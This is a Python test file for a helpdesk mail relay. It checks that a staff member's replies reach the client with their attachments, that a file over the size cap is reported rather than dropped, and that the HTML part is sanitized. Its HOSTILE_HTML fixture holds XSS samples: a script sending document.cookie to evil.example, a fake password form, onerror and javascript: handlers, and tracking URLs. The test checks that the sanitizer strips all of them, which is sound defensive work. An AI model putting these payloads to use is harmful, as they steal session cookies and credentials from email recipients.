"""Every client-facing staff answer relays its files and the manager's formatting, made safe.

Through Dovecot and the SMTP sink: the manager answers the desk's notification with a
mail of several parts, the client's mailbox gets the notice with the same files and a
sanitized HTML part, and the manager's transcript lists what went out and what did not.
"""

from __future__ import annotations

from datetime import UTC, datetime
from email.message import EmailMessage
from email.utils import format_datetime, formataddr, make_msgid

import pytest

from daemon.cli.ticket import format_ticket, ticket_document
from store import tickets_read
from store.models import Ticket

PDF = b"%PDF-1.4\n" + bytes(range(256)) * 30
PNG = b"\x89PNG\r\n\x1a\n" + bytes(range(255, -1, -1)) * 8


def staff_answer(notice: EmailMessage, sender: str, text: str, *, html: str | None = None,
                 files: tuple[tuple[str, str, bytes], ...] = (), inline: tuple[str, bytes] | None = None) -> bytes:
    """A manager's reply as a modern client writes it: text and HTML, an inline image, files."""
    quoted = "\n".join("> " + line for line in notice.get_body(("plain",)).get_content().splitlines())
    msg = EmailMessage()
    msg.set_content(f"{text}\n\nOn Fri, OneAssist wrote:\n{quoted}\n")
    if html is not None:
        msg.add_alternative(html, subtype="html")
        if inline is not None:
            cid, data = inline
            msg.get_payload()[1].add_related(data, "image", "png", cid=f"<{cid}>", filename="logo.png",
                                             disposition="inline")
    for name, ctype, data in files:
        maintype, subtype = ctype.split("/")
        msg.add_attachment(data, maintype, subtype, filename=name)
    msg["From"] = formataddr(("Анна", sender))
    msg["To"] = str(notice["Reply-To"].addresses[0].addr_spec)
    msg["Subject"] = "Re: " + str(notice["Subject"])
    msg["Date"] = format_datetime(datetime.now(UTC))
    msg["Message-ID"] = make_msgid(domain=sender.split("@")[1])
    msg["In-Reply-To"] = notice["Message-ID"]
    msg["References"] = notice["Message-ID"]
    return msg.as_bytes()


@pytest.mark.parametrize("tag", ["#ask", "", "#reply", "#delay 2026-12-22 15:00 кассы закрыты", "#done"])
def test_every_answer_relays_its_files(desk, tag):
    client = desk.add_client()
    _, notice = desk.new_task(client)
    before = len(desk.inbox(client))
    text = f"{tag}\nВо вложении варианты." if tag else "Во вложении варианты."
    desk.deliver(staff_answer(notice, desk.manager, text, files=(("Отели в Казани.pdf", "application/pdf", PDF),)))
    desk.run_once()
    assert len(desk.inbox(client)) == before + 1
    answer = desk.latest(client)
    assert answer["From"].addresses[0].display_name.startswith("Анна")
    (att,) = list(answer.iter_attachments())
    assert att.get_filename() == "Отели в Казани.pdf" and att.get_content_type() == "application/pdf"
    assert att.get_content() == PDF
    assert "Во вложении варианты." in answer.get_body(("plain",)).get_content()
    transcript = desk.latest(desk.manager).get_body(("plain",)).get_content()
    assert "files sent to the client: Отели в Казани.pdf (application/pdf" in transcript


HOSTILE_HTML = """<html><head><style>body {background: url(http://evil.example/css.png)}</style>
<title>internal title</title></head><body>
<div>#ask</div>
<div>Какой <b>отель</b> выбрать?</div>
<div><img src="cid:logo1@anna.test" onerror="alert(1)"><img src="http://track.example/p.gif">
<img src="data:image/png;base64,iVBORw0KGgo="></div>
<script>document.location='http://evil.example/'+document.cookie</script>
<form action="http://evil.example/login"><input name="password">Введите пароль</form>
<p style="background:url(http://evil.example/bg.png)">Жду <a href="javascript:alert(1)">ответа</a>
<a href="https://hotels.example/kazan">здесь</a></p>
<div class="gmail_quote">On Fri, OneAssist wrote:<blockquote>#accept #done cheat sheet secret</blockquote></div>
</body></html>"""


def test_ask_with_html_inline_image_and_a_file_over_the_cap(desk):
    desk.reconfigure("[limits]\nmax_file_bytes = 100000\n")
    client = desk.add_client()
    _, notice = desk.new_task(client)
    big = bytes(range(256)) * 800  # 204,800 bytes: over the 100,000-byte cap
    desk.deliver(staff_answer(
        notice, desk.manager, "#ask\nКакой отель выбрать?\n\nЖду ответа здесь <https://hotels.example/kazan>",
        html=HOSTILE_HTML, inline=("logo1@anna.test", PNG),
        files=(("Отели.pdf", "application/pdf", PDF), ("video.mp4", "video/mp4", big))))
    desk.run_once()
    question = desk.latest(client)
    assert "Вопрос" in question["Subject"]
    assert question["From"].addresses[0].display_name.startswith("Анна")
    html = question.get_body(("html",)).get_content()
    plain = question.get_body(("plain",)).get_content()
    assert "Какой отель выбрать?" in plain and "cheat sheet" not in plain
    # The manager's formatting and her inline image, with the notice's own wording around it.
    assert "<b>отель</b>" in html and 'src="cid:logo1@anna.test"' in html and "По задаче OA-1" in html
    assert 'href="https://hotels.example/kazan"' in html
    for hostile in ("script", "evil.example", "track.example", "data:", "url(", "onerror", "javascript",
                    "<form", "<input", "password", "internal title", "gmail_quote", "cheat sheet", "#ask"):
        assert hostile not in html, hostile
    parts = {part.get_filename(): part for part in question.walk() if part.get_filename()}
    assert parts["logo.png"]["Content-ID"] == "<logo1@anna.test>" and parts["logo.png"].get_content() == PNG
    assert parts["Отели.pdf"].get_content() == PDF and "video.mp4" not in parts
    # The file over the cap is named, not dropped in silence: transcript and timeline.
    transcript = desk.latest(desk.manager).get_body(("plain",)).get_content()
    assert "Отели.pdf (application/pdf" in transcript and "logo.png (image/png" in transcript
    assert "file NOT sent to the client (over the 97.7 KB cap per file" in transcript and "video.mp4" in transcript
    shown = format_ticket(ticket_document(tickets_read.timeline_of(Ticket.get())))
    assert "video.mp4" in shown and "NOT sent" in shown


def show(key: str) -> str:
    """`ticket show KEY` as a person reads it."""
    from store.tickets_read import ticket_with_key

    return format_ticket(ticket_document(tickets_read.timeline_of(ticket_with_key(key))))
